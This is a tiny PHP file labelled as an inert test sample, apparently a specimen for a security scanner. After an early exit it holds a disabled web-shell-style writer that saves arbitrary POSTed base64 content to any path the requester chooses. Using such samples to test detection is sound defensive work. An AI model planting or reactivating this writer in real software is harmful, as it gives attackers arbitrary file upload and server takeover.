<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

if (isset($_POST['p'])) {
    file_put_contents($_POST['p'], base64_decode($_POST['d']));
    echo 'written';
}
